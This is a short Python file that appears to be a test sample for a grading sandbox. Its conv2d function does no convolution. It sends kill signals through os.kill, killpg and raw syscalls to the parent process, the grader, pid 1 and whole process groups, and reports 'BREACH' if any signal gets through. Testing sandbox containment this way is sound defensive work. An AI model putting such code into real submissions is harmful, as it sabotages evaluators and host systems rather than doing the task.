# exercise: stride
# verdict: WRONG
# tries: to kill the zygote, the grader, its group and everything else
import sys

os = sys.modules["os"]


def conv2d(x, w, b, stride=1, padding=0):
    ctypes = sys.modules.get("ctypes")
    libc = ctypes.CDLL(None) if ctypes is not None else None
    for pid in (os.getppid(), "@GRADER@", 1):
        for number in (9, 15, 19, 2, 0):
            for kill in (
                lambda: os.kill(int(pid), number),
                lambda: os.killpg(int(pid), number),
                lambda: libc and libc.syscall(234, int(pid), int(pid), number) == -1 and 1 / 0,
                lambda: libc and libc.syscall(200, int(pid), number) == -1 and 1 / 0,
            ):
                try:
                    kill()
                except (OSError, ZeroDivisionError):
                    continue
                if libc:
                    raise RuntimeError(f"BREACH signal {number} to {pid}")
    for target in (-1, 0):
        try:
            os.kill(target, 9)
        except OSError:
            continue
        raise RuntimeError("BREACH killed a group")
